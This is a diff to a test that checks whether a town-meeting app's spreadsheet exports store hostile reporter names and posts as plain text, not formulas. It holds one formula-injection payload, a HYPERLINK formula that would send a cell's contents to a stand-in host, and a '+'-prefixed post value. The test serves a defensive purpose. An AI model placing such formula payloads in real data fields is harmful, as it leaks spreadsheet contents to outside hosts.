@@ -123,11 +123,12 @@ def test_the_assignment_list_writes_a_hostile_title_as_text(cases_world):
 def test_the_appraisal_sheets_write_hostile_names_as_text(world, town):
     meeting = closed_meeting(world, town)
     reporter = meeting.reporters.get(order=3)
-    Reporter.objects.filter(pk=reporter.pk).update(name=EXFILTRATE, post="+副镇长")
+    name = '=HYPERLINK("http://e.x/?"&B6)'  # within the name's 40 characters
+    Reporter.objects.filter(pk=reporter.pk).update(name=name, post="+副镇长")
     reporter.refresh_from_db()
     for body in (sheets.meeting_xlsx(meeting), sheets.reporter_xlsx(reporter)):
         cells = _cells(body)
-        _assert_text(cells, EXFILTRATE)
+        _assert_text(cells, name)
         _assert_text(cells, "+副镇长")
         assert not any(cell.data_type == "f" for cell in cells)
 
